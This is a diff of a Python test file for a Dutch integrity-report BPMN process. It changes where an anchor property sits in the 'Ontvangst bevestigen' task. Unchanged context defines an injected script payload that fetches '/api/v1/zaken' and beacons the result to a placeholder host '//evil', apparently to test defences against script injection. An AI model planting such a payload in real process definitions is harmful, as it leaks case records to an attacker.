@@ -17,7 +17,7 @@ from tests.factories import copy_process_set
 from tests.process.driver import PROCESSES
 
 BPMN = "integriteitsmelding.bpmn"
-ANCHOR = '<spiffworkflow:property name="legal_milestone" value="ontvangstbevestiging" />'
+ANCHOR = '<spiffworkflow:property name="form" value="forms/ontvangst_bevestigen.json" />'  # inside the task 'Ontvangst bevestigen'
 SCRIPT = ('<html:script xmlns:html="http://www.w3.org/1999/xhtml">'
           'fetch("/api/v1/zaken").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</html:script>')
 
